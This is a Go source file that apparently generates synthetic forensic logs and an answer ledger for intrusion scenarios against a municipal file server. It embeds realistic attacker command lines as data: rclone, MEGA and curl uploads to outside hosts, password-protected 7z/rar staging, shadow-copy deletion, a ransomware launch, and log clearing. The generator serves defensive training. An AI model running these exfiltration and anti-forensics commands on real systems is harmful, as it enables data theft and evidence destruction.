package scenario

import (
	"fmt"
	"strings"
	"time"
)

// tool is a transfer tool as an intruder runs it (often renamed).
type tool struct{ exe, cmd string }

var tools = []tool{
	{`C:\PerfLogs\svchost64.exe`, `C:\PerfLogs\svchost64.exe copy C:\PerfLogs\%s remote:%s --transfers 8 --multi-thread-streams 4 -q --ignore-existing --auto-confirm --no-check-certificate`},
	{`C:\Users\Public\rclone.exe`, `C:\Users\Public\rclone.exe sync C:\ProgramData\%s mega:%s --transfers 16 --config C:\Users\Public\rc.conf`},
	{`C:\ProgramData\MEGAcmd\mega-put.bat`, `C:\ProgramData\MEGAcmd\mega-put.bat C:\ProgramData\%s /%s`},
	{`C:\Windows\Temp\curl.exe`, `C:\Windows\Temp\curl.exe -k -T C:\ProgramData\%s https://upload.example-host.net/%s`},
	{`C:\Program Files (x86)\WinSCP\WinSCP.com`, `"C:\Program Files (x86)\WinSCP\WinSCP.com" /command "open sftp://u@host/" "put C:\ProgramData\%s /in/%s" "exit"`},
}

type staging struct{ exe, cmd string }

var stagings = []staging{
	{`C:\Program Files\7-Zip\7z.exe`, `"C:\Program Files\7-Zip\7z.exe" a -t7z -mx1 -mhe=on -p%s C:\PerfLogs\%s %s`},
	{`C:\Program Files\WinRAR\rar.exe`, `"C:\Program Files\WinRAR\rar.exe" a -m1 -hp%s C:\ProgramData\%s %s`},
	{`C:\ProgramData\7za.exe`, `C:\ProgramData\7za.exe a -tzip -p%s C:\ProgramData\%s %s`},
}

var freemail = []string{"gmail.com", "outlook.fr", "laposte.net", "protonmail.com", "yahoo.fr"}

// access is the intruder's way in: password spraying on the SSL VPN, a
// tunnel for a staff account, a remote desktop on the file server.
type access struct {
	user, tunnelIP, attackerIP, logonID string
	up                                  time.Time
}

func (w *world) vpnAccess(start time.Time, spray bool) access {
	org := w.org
	a := access{user: org.Staff[w.o.Victim].User, tunnelIP: fmt.Sprintf("%s%d", org.VPNPool, 150+w.r.IntN(100)),
		attackerIP: fmt.Sprintf("%d.%d.%d.%d", []int{185, 45, 91, 194}[w.r.IntN(4)], w.r.IntN(255), w.r.IntN(255), 1+w.r.IntN(253)),
		logonID:    fmt.Sprintf("0x%x", 0x800000+w.r.IntN(0xfffff))}
	t := start
	if spray {
		names := []string{"admin", "administrateur", "compta", "scanner", a.user, a.user}
		for i := 0; i < 15+w.r.IntN(50); i++ {
			t = t.Add(time.Duration(5+w.r.IntN(25)) * time.Second)
			w.fgVPN(t, "ssl-login-fail", names[w.r.IntN(len(names))], a.attackerIP, "")
		}
	}
	a.up = t.Add(time.Duration(20+w.r.IntN(60)) * time.Second).Truncate(time.Second)
	w.fgVPN(a.up, "tunnel-up", a.user, a.attackerIP, a.tunnelIP)
	return a
}

// rdp opens the intruder's remote desktop on the file server, logged by the
// firewall and by the server, for dur.
func (w *world) rdp(a access, t time.Time, dur time.Duration) {
	t = t.Truncate(time.Second)
	w.traffic(session{src: a.tunnelIP, sport: 50000 + w.r.IntN(10000), dst: w.org.FS.IP, dport: 3389, proto: 6, service: "RDP", start: t, dur: dur,
		sent: int64(20_000_000 + w.r.IntN(40_000_000)), rcvd: int64(300_000_000 + w.r.IntN(600_000_000)), policy: 31})
	w.logon(w.org.FS, t, a.user, a.tunnelIP, 10, a.logonID, []string{"DESKTOP-7QK2M1", "WIN-J4F8S0L", "kali", "PC-REMOTE"}[w.r.IntN(4)])
}

// collect reads n files of the sensitive shares through a program (4663 reads).
func (w *world) collect(t time.Time, user, logonID, proc string, n int) time.Time {
	for i := 0; i < n; i++ {
		sh := w.org.Shares[i%3]
		dir := sh.Dirs[(i/3)%len(sh.Dirs)]
		t = t.Add(time.Duration(1+w.r.IntN(3)) * time.Second)
		w.objectAccess(t, user, logonID, fmt.Sprintf(`%s\%s\%s-%04d.pdf`, sh.Path, dir, strings.ToLower(sh.Name), 1000+i), proc, false)
	}
	return t
}

// upload writes the transfer sessions from src to dst and returns the
// channel as the ledger must count it.
func (w *world) upload(src string, dst Site, start time.Time, totalBytes int64, sessions int, spread time.Duration) Channel {
	ch := Channel{Channel: "network", Destination: dst.IP, Domain: dst.Host, SourceIP: src}
	if strings.Contains(dst.Host, "mega") || strings.Contains(dst.Host, "dropbox") || strings.Contains(dst.Host, "pcloud") || strings.Contains(dst.Host, "temp.sh") {
		ch.Channel = "cloud"
	}
	per := totalBytes / int64(sessions)
	for s := 0; s < sessions; s++ {
		begin := start.Add(time.Duration(int64(spread) * int64(s) / int64(sessions))).Add(time.Duration(w.r.IntN(30)) * time.Second)
		dur := time.Duration(300+w.r.IntN(2400)) * time.Second
		sent := per/2 + w.r.Int64N(per)
		b, e := w.traffic(session{src: src, sport: 60000 + s, dst: dst.IP, dport: 443, proto: 6, service: "HTTPS", host: dst.Host,
			start: begin, dur: dur, sent: sent, rcvd: sent / 90, policy: 12})
		if w.o.WFP && src == w.org.FS.IP {
			w.connection(w.org.FS, b, tools[w.o.Tool].exe, 60000+s, dst.IP, 443)
		}
		ch.add(b, e, sent)
	}
	return ch
}

// add counts one session of the channel, from b to e.
func (ch *Channel) add(b, e time.Time, bytes int64) {
	ch.Bytes += bytes
	ch.Sessions++
	if ch.First.IsZero() || b.Before(ch.First) {
		ch.First = b
	}
	if e.After(ch.Last) {
		ch.Last = e
	}
}

// readShares reads n files of the sensitive shares from the tunnel's
// address (5145), numbered from first; it returns the last read's time.
func (w *world) readShares(a access, t time.Time, n, first int) time.Time {
	for i := 0; i < n; i++ {
		sh := w.org.Shares[i%3]
		t = t.Add(time.Duration(1+w.r.IntN(4)) * time.Second)
		w.shareAccess(t, a.user, a.tunnelIP, sh, fmt.Sprintf(`%s\%s-%04d.pdf`, sh.Dirs[i%len(sh.Dirs)], strings.ToLower(sh.Name), first+i))
	}
	return t
}

// coverUp: shadow copies deleted, a service installed, the Security log cleared.
func (w *world) coverUp(a access, t time.Time) time.Time {
	w.process(w.org.FS, t, a.user, a.logonID, `C:\Windows\System32\vssadmin.exe`, `vssadmin.exe delete shadows /all /quiet`, `C:\Windows\System32\cmd.exe`)
	w.serviceInstalled(t.Add(40*time.Second), "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`)
	clr := t.Add(3 * time.Minute)
	w.logCleared(clr, a.user, a.logonID)
	return clr
}

// story plays the variant's intrusion.
func (w *world) story() {
	org := w.org
	night := w.localDay(w.o.IncidentDay, 21, 0).Add(time.Duration(w.r.IntN(120)) * time.Minute).Truncate(time.Second)
	archive := []string{"sauvegarde.7z", "archive.rar", "data.zip", "export.7z"}[w.r.IntN(4)]
	switch w.o.Variant {
	case VPNTheft, SlowTheft, MailTheft, VPNPull, RansomNoTheft:
		a := w.vpnAccess(night, true)
		rdpAt := a.up.Add(time.Duration(2+w.r.IntN(5)) * time.Minute)
		w.truth.Window[0] = night
		switch w.o.Variant {
		case VPNTheft:
			w.rdp(a, rdpAt, 5*time.Hour)
			stg := stagings[w.o.Staging]
			stageAt := rdpAt.Add(time.Duration(5+w.r.IntN(10)) * time.Minute)
			w.process(org.FS, stageAt, a.user, a.logonID, stg.exe, fmt.Sprintf(stg.cmd, "Mairie2025!", archive, `D:\Partages\RH D:\Partages\EtatCivil`), `C:\Windows\System32\cmd.exe`)
			end := w.collect(stageAt, a.user, a.logonID, stg.exe, 120+w.r.IntN(200))
			tl := tools[w.o.Tool]
			toolAt := end.Add(time.Duration(3+w.r.IntN(10)) * time.Minute)
			w.process(org.FS, toolAt, a.user, a.logonID, tl.exe, fmt.Sprintf(tl.cmd, archive, "dossier"), `C:\Windows\System32\cmd.exe`)
			ch := w.upload(org.FS.IP, exfilDests[w.o.Dest], toolAt.Add(5*time.Second), int64(w.o.ExfilGB*1e9), w.o.Sessions, 90*time.Minute)
			w.expect(ch, org.FS.Name, a.user)
			last := ch.Last
			if w.o.MailToo {
				to := strings.SplitN(a.user, ".", 2)[1] + ".perso@" + freemail[w.r.IntN(len(freemail))]
				mc := w.mailOut(a, toolAt.Add(10*time.Minute), to, 2+w.r.IntN(3))
				if mc.Last.After(last) {
					last = mc.Last
				}
			}
			w.finish(a, last)
		case SlowTheft:
			w.rdp(a, rdpAt, 3*time.Hour)
			stg := stagings[w.o.Staging]
			stageAt := rdpAt.Add(10 * time.Minute)
			w.process(org.FS, stageAt, a.user, a.logonID, stg.exe, fmt.Sprintf(stg.cmd, "Mairie2025!", archive, `D:\Partages\RH`), `C:\Windows\System32\cmd.exe`)
			w.collect(stageAt, a.user, a.logonID, stg.exe, 150+w.r.IntN(100))
			tl := tools[w.o.Tool]
			dst := exfilDests[w.o.Dest]
			var all Channel
			for n := 0; n < 4 && w.o.IncidentDay+n < w.o.Days; n++ {
				at := w.localDay(w.o.IncidentDay+n, 23, 0).Add(time.Duration(w.r.IntN(90)) * time.Minute).Truncate(time.Second)
				if n > 0 {
					a2 := w.vpnAccess(at.Add(-10*time.Minute), false)
					a2.logonID = fmt.Sprintf("0x%x", 0x800000+w.r.IntN(0xfffff))
					a.tunnelIP, a.logonID = a2.tunnelIP, a2.logonID
					w.rdp(a, at.Add(-5*time.Minute), 3*time.Hour)
				}
				w.process(org.FS, at, a.user, a.logonID, tl.exe, fmt.Sprintf(tl.cmd, archive, fmt.Sprintf("part%d", n+1)), `C:\Windows\System32\cmd.exe`)
				ch := w.upload(org.FS.IP, dst, at.Add(5*time.Second), int64(w.o.ExfilGB*1e9), 3+w.r.IntN(4), 40*time.Minute)
				if all.Sessions == 0 {
					all = ch
				} else {
					all.Bytes += ch.Bytes
					all.Sessions += ch.Sessions
					all.Last = ch.Last
				}
			}
			w.expect(all, org.FS.Name, a.user)
			w.truth.Window[1] = all.Last
		case MailTheft:
			// Reading the shares over SMB from the tunnel address, then mailing.
			lid := fmt.Sprintf("0x%x", 0x700000+w.r.IntN(0xfffff))
			w.logon(org.FS, rdpAt, a.user, a.tunnelIP, 3, lid, "DESKTOP-"+fmt.Sprint(1000+w.r.IntN(8999)))
			// Not readShares: this loop draws its bound again at each turn,
			// and the storyline's seeds keep the incidents they gave.
			t := rdpAt
			for i := 0; i < 130+w.r.IntN(150); i++ {
				sh := org.Shares[i%3]
				t = t.Add(time.Duration(1+w.r.IntN(4)) * time.Second)
				w.shareAccess(t, a.user, a.tunnelIP, sh, fmt.Sprintf(`%s\%s-%04d.pdf`, sh.Dirs[i%len(sh.Dirs)], strings.ToLower(sh.Name), 2000+i))
			}
			to := "docs." + fmt.Sprint(100+w.r.IntN(900)) + "@" + freemail[w.r.IntN(len(freemail))]
			mc := w.mailOut(a, t.Add(5*time.Minute), to, 3+w.r.IntN(5))
			w.truth.Window[1] = mc.Last
		case VPNPull:
			// The shares read from the tunnel address (5145) and copied over
			// SMB to the intruder's machine at the tunnel's far end: the data
			// leaves inside the tunnel, never to an Internet destination.
			lid := fmt.Sprintf("0x%x", 0x700000+w.r.IntN(0xfffff))
			w.logon(org.FS, rdpAt, a.user, a.tunnelIP, 3, lid, "DESKTOP-"+fmt.Sprint(1000+w.r.IntN(8999)))
			w.readShares(a, rdpAt, 150+w.r.IntN(150), 3000)
			ch := Channel{Channel: "network", Destination: a.attackerIP, SourceIP: org.FS.IP, Tunnel: a.tunnelIP}
			n := 2 + w.r.IntN(5)
			per := int64(w.o.ExfilGB*1e9) / int64(n)
			for k := 0; k < n; k++ {
				begin := rdpAt.Add(time.Duration(k*(20+w.r.IntN(20))) * time.Minute).Add(time.Duration(w.r.IntN(60)) * time.Second)
				rcvd := per/2 + w.r.Int64N(per)
				b, e := w.traffic(session{src: a.tunnelIP, sport: 50000 + w.r.IntN(10000), dst: org.FS.IP, dport: 445, proto: 6, service: "SMB",
					start: begin, dur: time.Duration(600+w.r.IntN(1800)) * time.Second, sent: rcvd / 200, rcvd: rcvd, policy: 31})
				ch.add(b, e, rcvd)
			}
			w.expect(ch, org.FS.Name, a.user)
			w.finish(a, ch.Last)
		case RansomNoTheft:
			w.rdp(a, rdpAt, 4*time.Hour)
			t := rdpAt.Add(20 * time.Minute)
			w.process(org.FS, t, a.user, a.logonID, `C:\ProgramData\lock.exe`, `C:\ProgramData\lock.exe -path D:\Partages -threads 8`, `C:\Windows\System32\cmd.exe`)
			for i := 0; i < 200+w.r.IntN(300); i++ {
				sh := org.Shares[i%len(org.Shares)]
				t = t.Add(time.Duration(1+w.r.IntN(2)) * time.Second)
				w.objectAccess(t, a.user, a.logonID, fmt.Sprintf(`%s\%s\doc-%04d.docx`, sh.Path, sh.Dirs[i%len(sh.Dirs)], i), `C:\ProgramData\lock.exe`, true)
			}
			// A little command-and-control traffic: kilobytes, not data.
			c2 := Site{fmt.Sprintf("%d.%d.%d.%d", 5+w.r.IntN(90), w.r.IntN(255), w.r.IntN(255), 1+w.r.IntN(253)), ""}
			for i := 0; i < 6; i++ {
				w.traffic(session{src: org.FS.IP, sport: 61000 + i, dst: c2.IP, dport: 443, proto: 6, service: "HTTPS", start: rdpAt.Add(time.Duration(i*13) * time.Minute),
					dur: time.Duration(20+w.r.IntN(100)) * time.Second, sent: int64(2000 + w.r.IntN(40000)), rcvd: int64(5000 + w.r.IntN(90000)), policy: 12})
			}
			w.finish(a, t)
		}
	case InsiderCloud:
		p := org.Staff[w.o.Victim]
		day := w.insiderDay()
		t := w.localDay(day, 14, 0).Add(time.Duration(w.r.IntN(90)) * time.Minute).Truncate(time.Second)
		w.truth.Window[0] = t
		w.blind = t.Before(w.o.WindowsFrom)
		lid := fmt.Sprintf("0x%x", 0x600000+w.r.IntN(0xfffff))
		w.logon(org.FS, t, p.User, p.WS.IP, 3, lid, p.WS.Name)
		for i := 0; i < 150+w.r.IntN(250); i++ {
			sh := org.Shares[i%3]
			t = t.Add(time.Duration(1+w.r.IntN(3)) * time.Second)
			w.shareAccess(t, p.User, p.WS.IP, sh, fmt.Sprintf(`%s\%s-%04d.pdf`, sh.Dirs[i%len(sh.Dirs)], strings.ToLower(sh.Name), 3000+i))
		}
		c := cloudService[w.r.IntN(len(cloudService))]
		ch := w.upload(p.WS.IP, c, t.Add(10*time.Minute), int64(w.o.ExfilGB*1e9), 4+w.r.IntN(12), 50*time.Minute)
		ch.Channel = "cloud"
		w.expect(ch, p.WS.Name, p.User)
		w.truth.Window[1] = ch.Last
	}
}

// insiderDay is the working day of the insider's upload.
func (w *world) insiderDay() int {
	day := w.o.IncidentDay
	for w.localDay(day, 12, 0).In(w.loc).Weekday() == time.Saturday || w.localDay(day, 12, 0).In(w.loc).Weekday() == time.Sunday {
		day--
	}
	return day
}

// mailOut sends n messages of 8–25 MB to an outside address through the
// relay, authenticated as the intruder's account from the tunnel address.
func (w *world) mailOut(a access, t time.Time, to string, n int) Channel {
	ch := Channel{Channel: "email", Destination: to, Domain: domainOf(to), Account: a.user}
	if w.o.FortiMail {
		ch.Account = "" // a gateway's history names no account
	}
	mx := Site{"142.250.27.27", "mx." + domainOf(to)}
	for i := 0; i < n; i++ {
		size := int64(8_000_000 + w.r.IntN(17_000_000))
		mt := w.message(t.Add(time.Duration(i*(3+w.r.IntN(6)))*time.Minute), "unknown", a.tunnelIP, a.user, a.user+"@"+w.org.MailDomain, []string{to}, size, mx.Host, mx.IP)
		// The relay's SMTP session to the recipient's server, as the firewall sees it.
		w.traffic(session{src: w.org.Mail.IP, sport: 41000 + i, dst: mx.IP, dport: 25, proto: 6, service: "SMTP", host: mx.Host, start: mt, dur: 20 * time.Second,
			sent: size + size/30, rcvd: 4200, policy: 7})
		ch.add(mt, mt, size)
	}
	if w.o.Missing != "mail" {
		w.truth.Exfil = append(w.truth.Exfil, ch)
	}
	return ch
}

// relaySession is the mail relay's SMTP session to a partner's server for
// a message it accepted at t, as the firewall sees it.
func (w *world) relaySession(t time.Time, size int64, mx Site) {
	w.relayed++
	w.traffic(session{src: w.org.Mail.IP, sport: 30000 + w.relayed%10000, dst: mx.IP, dport: 25, proto: 6, service: "SMTP", host: mx.Host,
		start: t, dur: 2 * time.Second, sent: size + size/30 + 2400, rcvd: 3100, policy: 7, id: 90_000_000 + w.relayed})
}

// expect records a network channel in the truth, with what the evidence
// can tie to it.
func (w *world) expect(ch Channel, host, account string) {
	if w.o.Missing == "firewall" {
		return
	}
	if w.o.Missing != "windows" && !w.blind {
		ch.SourceHost, ch.Account = host, account
	}
	w.truth.Exfil = append(w.truth.Exfil, ch)
	if w.truth.Window[1].Before(ch.Last) {
		w.truth.Window[1] = ch.Last
	}
}

// finish covers the tracks a while after the last transfer; the firewall
// log may stop in between.
func (w *world) finish(a access, last time.Time) {
	cover := last.Add(time.Duration(20+w.r.IntN(40)) * time.Minute)
	if w.o.cutFirewall {
		w.o.FirewallUntil = last.Add(time.Duration(3+w.r.IntN(10)) * time.Minute)
	}
	end := w.coverUp(a, cover)
	w.fgVPN(end.Add(2*time.Minute), "tunnel-down", a.user, a.attackerIP, a.tunnelIP)
	if end.After(w.truth.Window[1]) {
		w.truth.Window[1] = end
	}
}
